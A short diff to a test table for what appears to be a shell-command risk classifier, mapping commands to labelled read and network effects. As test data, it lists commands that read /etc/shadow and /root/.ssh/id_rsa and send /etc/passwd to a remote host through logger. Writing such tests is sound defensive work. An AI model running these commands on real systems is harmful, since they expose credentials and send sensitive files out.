@@ -18,7 +18,7 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
   ['logger -f /etc/shadow', ['read:read /etc/shadow sensitive']],
   [
     'logger -n log.example.com -f /etc/passwd',
-    ['read:read /etc/passwd external', 'network:send log.example.com external', 'network:send-data external'],
+    ['read:read /etc/passwd external', 'network:send-data log.example.com external'],
   ],
   ['dmesg -T', []],
   ['dmesg -rF /root/.ssh/id_rsa', ['read:read /root/.ssh/id_rsa sensitive']],
